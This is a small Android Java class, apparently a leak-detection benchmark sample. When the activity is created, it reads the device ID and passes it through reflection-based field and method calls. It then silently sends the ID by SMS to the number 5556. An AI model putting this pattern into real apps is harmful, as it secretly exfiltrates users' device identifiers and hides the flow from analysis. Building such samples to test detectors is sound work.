package org.brookside.ways;

import android.app.*;
import android.content.*;
import android.content.res.Configuration;
import android.database.*;
import android.database.sqlite.*;
import android.location.*;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.text.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.lang.ref.*;
import java.lang.reflect.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import java.util.concurrent.atomic.*;
import java.util.regex.*;

/** An object made by name, its field set and its method called by name. */
public class Made extends Case {
    public static class Hold { public String f; public String give() { return f; } }
    @Override protected void onCreate(Bundle s) {
        super.onCreate(s);
        try {
            Object o = Class.forName("org.brookside.ways.Made$Hold").newInstance();
            o.getClass().getField("f").set(o, ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId());
            SmsManager.getDefault().sendTextMessage("5556", null, (String) o.getClass().getMethod("give").invoke(o), null, null);
        } catch (Exception x) { }
    }
}
